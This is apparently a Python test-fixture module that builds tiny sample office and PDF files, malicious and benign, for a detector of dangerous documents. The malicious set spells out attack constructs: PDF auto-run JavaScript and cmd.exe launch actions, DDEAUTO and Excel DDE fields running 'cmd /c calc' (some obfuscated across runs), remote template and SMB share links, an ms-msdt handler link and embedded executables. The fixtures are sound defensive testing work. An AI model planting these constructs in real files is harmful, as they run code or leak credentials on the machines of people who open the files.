"""Files that would run, fetch, send or hide something when somebody opens them, each in its smallest form."""

import io
import struct
import zlib

from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from tests.documents import macro_enabled, ole, open_xml, word_stream, workbook_stream, zipped

RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def pdf(*, on_page=None, on_catalog=None, attached=None):
    """One page; `on_page` and `on_catalog` are entries of those dictionaries."""
    writer = PdfWriter()
    page = writer.add_blank_page(595, 842)
    page.update(_objects(on_page or {}))
    writer.root_object.update(_objects(on_catalog or {}))
    if attached:
        writer.add_attachment("x.exe", attached)
    content = io.BytesIO()
    writer.write(content)
    return content.getvalue()


def _objects(value):
    if isinstance(value, dict):
        return DictionaryObject({NameObject(name): _objects(part) for name, part in value.items()})
    if isinstance(value, list):
        return ArrayObject([_objects(part) for part in value])
    return NameObject(value) if value.startswith("/") else TextStringObject(value)


def action(kind, **more):
    return {"/Type": "/Action", "/S": kind} | {f"/{name}": value for name, value in more.items()}


def note(**more):
    return {"/Annots": [{"/Type": "/Annot"} | {f"/{name}": value for name, value in more.items()}]}


def relationship(kind, target, *, external=True):
    mode = ' TargetMode="External"' if external else ""
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r1" Type="{RELS}/{kind}" Target="{target}"{mode}/></Relationships>'
    )


def linked(family, kind, target, *, external=True):
    folder, part = {
        "docx": ("word", "document.xml"), "xlsx": ("xl", "workbook.xml"), "pptx": ("ppt", "presentation.xml"),
    }[family]  # fmt: skip
    return open_xml(family, **{f"{folder}___rels__{part}.rels": relationship(kind, target, external=external)})


def document(body, **parts):
    """A docx with this inside its body."""
    text = f'<w:document xmlns:w="{W}" xmlns:r="{RELS}"><w:body>{body}</w:body></w:document>'
    return open_xml("docx", **({"word__document.xml": text} | parts))


def field(*pieces):
    """A complex field whose code is cut into runs."""
    codes = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return (
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{codes}<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        '<w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


NAMED_BY_ANOTHER = (
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>'
    'QUOTE 68 68 69</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText> cmd "/c calc"'
    '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
)


def embedding(content, name="word__embeddings__oleObject1.bin", family="docx"):
    return open_xml(family, **{name: content})


def slide_object(content, *, compressed=True):
    """A PowerPoint Document stream with this object stored in it."""
    stored = struct.pack("<I", len(content)) + zlib.compress(content) if compressed else content
    kind = 0x10 if compressed else 0
    return struct.pack("<HHI", kind, 0x1011, len(stored)) + stored


def doc_with(code):
    return ole({"WordDocument": word_stream() + bytes(40) + code})


def supbook(path):
    """A link of a workbook of old that has no sheets: DDE or OLE."""
    return (0x1AE, struct.pack("<HHB", 0, len(path), 0) + path.encode("latin-1"))


PROGRAM_OBJECT = ole({"\x01Ole": b"x", "\x01Ole10Native": b"\0\0\0\0x.exe\0MZ"})
MACRO_DOC = ole({"WordDocument": word_stream(), "Macros/VBA/dir": b"x"})
VIDEO = "http://schemas.openxmlformats.org/drawingml/2006/main"
MACRO_PART = '<Override PartName="/word/settings2.bin" ContentType="application/vnd.ms-office.vbaProject"/>'

BAD = {
    "pdf: a script when it is opened": ("pdf", pdf(on_catalog={"/OpenAction": action("/JavaScript", JS="x")})),
    "pdf: a script of the document": (
        "pdf",
        pdf(on_catalog={"/Names": {"/JavaScript": {"/Names": ["x", action("/JavaScript", JS="x")]}}}),
    ),
    "pdf: a script under a disguised name": (
        "pdf",
        pdf(on_catalog={"/OpenAction": action("/JavaScript", JS="x")}).replace(b"/JavaScript", b"/J#61vaScript"),
    ),
    "pdf: a program when it is opened": ("pdf", pdf(on_catalog={"/OpenAction": action("/Launch", F="cmd.exe")})),
    "pdf: a program behind a link": ("pdf", pdf(on_page=note(Subtype="/Link", A=action("/Launch", F="cmd.exe")))),
    "pdf: a form that is sent": ("pdf", pdf(on_page=note(Subtype="/Widget", A=action("/SubmitForm", F="http://x")))),
    "pdf: data that are imported": ("pdf", pdf(on_page={"/AA": {"/O": action("/ImportData", F="x.fdf")}})),
    "pdf: an attached program": ("pdf", pdf(attached=b"MZ")),
    "pdf: a file behind a pin": (
        "pdf",
        pdf(on_page=note(Subtype="/FileAttachment", FS={"/Type": "/Filespec", "/F": "x.exe"})),
    ),
    "pdf: another file opened with it": (
        "pdf",
        pdf(on_catalog={"/OpenAction": action("/GoToR", F="//10.1.1.1/share/x.pdf")}),
    ),
    "pdf: a film with programs": ("pdf", pdf(on_page=note(Subtype="/RichMedia"))),
    "pdf: a script in a chain of actions": (
        "pdf",
        pdf(on_catalog={"/OpenAction": action("/URI", URI="http://x", Next=[action("/JavaScript", JS="x")])}),
    ),
    "docx: a template of another machine": ("docx", linked("docx", "attachedTemplate", "http://10.1.1.1/x.dotm")),
    "docx: a template of a share": ("docx", linked("docx", "attachedTemplate", r"file:///\\10.1.1.1\x\x.dotm")),
    "docx: a template of a share by its host": ("docx", linked("docx", "attachedTemplate", "file://10.1.1.1/x.dotx")),
    "docx: a linked object": ("docx", linked("docx", "oleObject", "mhtml:http://x/x.html!x-usc:http://x/x.html")),
    "docx: a frame": ("docx", linked("docx", "frame", "http://x/x.html")),
    "docx: a document inside": ("docx", linked("docx", "subDocument", "file:///C:/x.docx")),
    "docx: a page inside": ("docx", linked("docx", "aFChunk", "/word/x.mht", external=False)),
    "docx: a picture of a share": ("docx", linked("docx", "image", r"\\10.1.1.1\x\x.png")),
    "docx: a link to a tool of the system": ("docx", linked("docx", "hyperlink", "ms-msdt:/id PCWDiagnostic")),
    "docx: a control": ("docx", linked("docx", "control", "activeX/activeX1.xml", external=False)),
    "docx: a packed program": ("docx", embedding(PROGRAM_OBJECT)),
    "docx: an object of an unknown program": ("docx", embedding(ole({"\x01Ole": b"x", "Contents": b"x"}))),
    "docx: a program by itself": ("docx", embedding(b"MZ\x90\0", "word__media__image1.png")),
    "docx: a text of old with macros inside": ("docx", embedding(MACRO_DOC)),
    "docx: slides with macros inside a workbook inside": (
        "docx",
        embedding(
            embedding(macro_enabled("pptx"), "xl__embeddings__x.pptx", "xlsx"), "word__embeddings__x.xlsx"
        ),
    ),
    "docx: DDE": ("docx", document(field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'))),
    "docx: DDE over runs": ("docx", document(field("D", "DE", "AU", 'TO cmd "/c calc"'))),
    "docx: DDE in a simple field": ("docx", document('<w:p><w:fldSimple w:instr=" dde cmd /c "/></w:p>')),
    "docx: DDE in a footer": (
        "docx",
        open_xml("docx", **{"word__footer1.xml": f'<w:ftr xmlns:w="{W}">{field("DDE cmd x")}</w:ftr>'}),
    ),
    "docx: a field named by another": ("docx", document(NAMED_BY_ANOTHER)),
    "docx: a text of another machine": ("docx", document(field('INCLUDETEXT "http://x/x.docx"'))),
    "docx: macros by relationship": ("docx", linked("docx", "vbaProject", "settings2.bin", external=False)),
    "docx: macros by type": ("docx", open_xml("docx", extra_types=MACRO_PART, **{"word__settings2.bin": "x"})),
    "xlsx: DDE": (
        "xlsx",
        open_xml("xlsx", **{"xl__externalLinks__externalLink1.xml": '<x><ddeLink ddeService="cmd"/></x>'}),
    ),
    "xlsx: DDE in a cell": (
        "xlsx",
        open_xml("xlsx", **{"xl__worksheets__sheet1.xml": "<x><c><f>cmd|'/c calc'!A0</f></c></x>"}),
    ),
    "xlsx: data fetched when it is opened": (
        "xlsx",
        open_xml("xlsx", **{"xl__connections.xml": '<connections><connection refreshOnLoad="1"/></connections>'}),
    ),
    "xlsx: a sheet of macros": ("xlsx", linked("xlsx", "xlMacrosheet", "sheet9.xml", external=False)),
    "pptx: a button that runs a program": (
        "pptx",
        open_xml(
            "pptx",
            **{"ppt__slides__slide1.xml": f'<x xmlns:a="{VIDEO}"><a:hlinkClick action="ppaction://program"/></x>'},
        ),
    ),
    "pptx: a linked object": ("pptx", linked("pptx", "oleObject", "file:///C:/x.xlsx")),
    "doc: DDE": ("doc", doc_with(b'\x13 DDEAUTO cmd "/k calc" \x14')),
    "doc: DDE in two bytes": ("doc", doc_with('\x13 DDE cmd "/k calc" \x14'.encode("utf-16-le"))),
    "wps: a packed program": (
        "wps",
        ole({"WordDocument": word_stream(), "ObjectPool/_1/\x01Ole": b"x", "ObjectPool/_1/\x01Ole10Native": b"MZ"}),
    ),
    "xls: DDE": ("xls", ole({"Workbook": workbook_stream(supbook("cmd\x03/c calc"))})),
    "et: an object of an unknown program": (
        "et",
        ole({"Workbook": workbook_stream(), "MBD0001/\x01CompObj": b"x", "MBD0001/Contents": b"x"}),
    ),
    "ppt: a packed program": ("ppt", ole({"PowerPoint Document": slide_object(PROGRAM_OBJECT)})),
    "ppt: macros": (
        "ppt",
        ole({"PowerPoint Document": slide_object(ole({"VBA/dir": b"x"}), compressed=False)}),
    ),
    "dps: a button that runs a program": (
        "dps",
        ole({"PowerPoint Document": b"\0\0\xf3\x0f\x10\0\0\0" + bytes(8) + b"\2" + bytes(7)}),
    ),
    "ofd: a program": ("ofd", zipped({"OFD.xml": '<OFD Version="1.1"/>', "Doc_0/Attachs/x.dat": b"MZ\x90"})),
}  # fmt: skip

# What ordinary documents have of the same kind.
HARMLESS = {
    "docx: a link": ("docx", linked("docx", "hyperlink", "https://www.gov.cn/zhengce/")),
    "docx: a link by mail": ("docx", linked("docx", "hyperlink", "mailto:a@b.gov.cn")),
    "docx: a template of the writer's own disk": (
        "docx",
        linked("docx", "attachedTemplate", r"file:///C:\Users\w\AppData\Roaming\Microsoft\Templates\公文.dotx"),
    ),
    "docx: a picture of a page": ("docx", linked("docx", "image", "https://www.gov.cn/x.png")),
    "docx: fields of every paper": (
        "docx",
        document("".join(map(field, (" PAGE ", 'TOC \\o "1-3"', 'HYPERLINK "http://x"', "MACROBUTTON NoMacro 点击")))),
    ),
    "docx: a chart with its workbook": ("docx", embedding(open_xml("xlsx"), "word__embeddings__Sheet1.xlsx")),
    "docx: a formula": ("docx", embedding(ole({"\x01Ole": b"x", "\x01CompObj": b"x", "Equation Native": b"x"}))),
    "docx: a workbook of old": ("docx", embedding(ole({"\x01Ole": b"x", "Workbook": workbook_stream()}))),
    "xlsx: another workbook": ("xlsx", linked("xlsx", "externalLinkPath", "file:///D:/台账.xlsx")),
    "xlsx: words like a call": (
        "xlsx",
        open_xml("xlsx", **{"xl__worksheets__sheet1.xml": "<x><c><f>IF(A1=\"甲|乙\",1,Sheet2)</f></c></x>"}),
    ),
    "pptx: a next page": (
        "pptx",
        open_xml("pptx", **{"ppt__slides__slide1.xml": '<x><h action="ppaction://hlinkshowjump?jump=nextslide"/></x>'}),
    ),
    "pdf: a link": ("pdf", pdf(on_page=note(Subtype="/Link", A=action("/URI", URI="https://www.gov.cn")))),
    "pdf: the first page when it is opened": ("pdf", pdf(on_catalog={"/OpenAction": action("/GoTo", D="x")})),
    "doc: a page number": ("doc", doc_with("\x13 PAGE \x14".encode("utf-16-le"))),
    "xls: another workbook": (
        "xls",
        ole({"Workbook": workbook_stream((0x1AE, struct.pack("<HHB", 1, 8, 0) + b"\1D\3x.xls"))}),
    ),
}  # fmt: skip
